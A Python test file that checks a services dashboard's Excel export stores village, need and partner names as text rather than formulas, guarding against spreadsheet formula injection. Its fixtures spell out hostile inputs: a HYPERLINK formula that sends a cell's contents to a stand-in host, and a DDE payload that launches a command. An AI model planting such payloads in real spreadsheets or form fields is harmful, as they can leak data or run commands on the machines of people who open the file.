"""The services dashboard's Excel file never holds a formula, whatever a partner or a village
is called."""

from __future__ import annotations

import io
from datetime import date

import openpyxl

from pandu.services.reports import Figures, xlsx

EVIL = '=HYPERLINK("http://contoh.invalid/?d="&B2,"Klik")'


def test_names_in_the_dashboard_workbook_are_text_not_formulas():
    figures = Figures(
        area_code="73.09",
        start=date(2026, 1, 1),
        end=date(2026, 1, 31),
        by_village=[(EVIL, 3)],
        by_need=[("@SUM(1)", 2)],
        partners=[
            {
                "agency": "+cmd|' /C calc'!A0",
                "sent": 4,
                "accepted": 3,
                "declined": -1,
                "completed": 2,
                "acceptance_rate": 0.75,
                "completion_rate": 0.5,
                "median_days": 3.0,
            }
        ],
    )
    book = openpyxl.load_workbook(io.BytesIO(xlsx(figures, "-Maros")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'" + EVIL in values and "'@SUM(1)" in values and "'-Maros" in values
    assert "'+cmd|' /C calc'!A0" in values
    assert -1 in values and 0.75 in values  # numbers stay numbers
